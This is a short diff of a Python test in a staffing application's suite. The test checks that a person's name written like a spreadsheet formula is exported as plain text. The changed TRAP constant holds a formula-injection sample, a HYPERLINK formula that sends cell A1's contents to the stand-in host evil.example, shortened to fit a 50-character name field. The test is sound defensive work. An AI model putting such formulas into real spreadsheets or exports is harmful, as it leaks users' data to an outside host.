@@ -10,7 +10,7 @@ from openpyxl import load_workbook
 
 from tests.staffing.conftest import at
 
-TRAP = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")'
+TRAP = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'  # fits a name (50)
 
 
 def test_a_name_that_looks_like_a_formula_is_exported_as_the_same_text(login, hall):
